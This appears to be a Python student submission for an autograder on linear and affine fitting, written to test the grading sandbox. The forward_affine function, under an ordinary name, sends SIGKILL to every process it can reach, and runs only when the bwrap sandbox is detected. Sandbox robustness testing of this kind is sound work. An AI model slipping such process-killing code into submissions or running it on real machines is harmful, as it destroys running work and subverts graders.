"""Attack: forward_affine sends SIGKILL to every pid from 1 to 65535 but its own,
and to -1 (every process it may signal).

Safety: it does so only inside the bubblewrap sandbox (pid 1 is bwrap), never on a
machine where it would kill real processes.

Expected: the sandbox's own PID namespace holds nothing but the grading run; it
costs only this submission's forward_affine test (95 points); the next student
scores 100.
"""

import contextlib
import os
import signal

import numpy as np


def forward(x, w):
    return np.asarray(x, dtype=float) * w if isinstance(x, (list, tuple)) else x * w


def loss(x, y, w):
    return (x * w - y) ** 2


def mse(xs, ys, w):
    xs, ys = np.asarray(xs, dtype=float), np.asarray(ys, dtype=float)
    return float(np.mean((xs * w - ys) ** 2))


def exhaustive_search(xs, ys, w_grid):
    xs, ys = np.asarray(xs, dtype=float), np.asarray(ys, dtype=float)
    costs = [float(np.mean((xs * float(w) - ys) ** 2)) for w in w_grid]
    best = int(np.argmin(costs))
    return float(w_grid[best]), costs


def forward_affine(x, w, b):
    with open("/proc/1/cmdline", "rb") as stream:
        if b"bwrap" not in stream.read():
            raise RuntimeError("not in the sandbox: refusing to kill every process")
    me = os.getpid()
    for pid in range(1, 65536):
        if pid != me:
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                continue
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)
    raise RuntimeError("killed every process it could")


def exhaustive_search_affine(xs, ys, w_grid, b_grid):
    xs, ys = np.asarray(xs, dtype=float), np.asarray(ys, dtype=float)
    costs = np.array(
        [
            [float(np.mean((xs * float(w) + float(b) - ys) ** 2)) for b in b_grid]
            for w in w_grid
        ]
    )
    i, j = np.unravel_index(int(np.argmin(costs)), costs.shape)
    return float(w_grid[i]), float(b_grid[j]), costs
